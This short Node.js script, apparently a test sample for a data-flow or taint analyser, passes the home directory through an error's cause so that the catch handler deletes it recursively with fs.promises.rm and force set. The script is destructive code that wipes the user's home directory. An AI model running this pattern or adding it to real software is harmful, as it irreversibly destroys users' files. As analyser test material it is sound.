// Async: the home directory, as a shorthand member of the cause, deleted by the handler.
const { rm } = require('fs/promises');
async function inspect() {
  const dir = process.env.HOME;
  throw new Error('reset required', { cause: { dir, reason: 'corrupt' } });
}
async function boot() {
  await inspect();
}
(async () => {
  try {
    await boot();
  } catch (failure) {
    await rm(failure.cause.dir, { recursive: true, force: true });
  }
})();
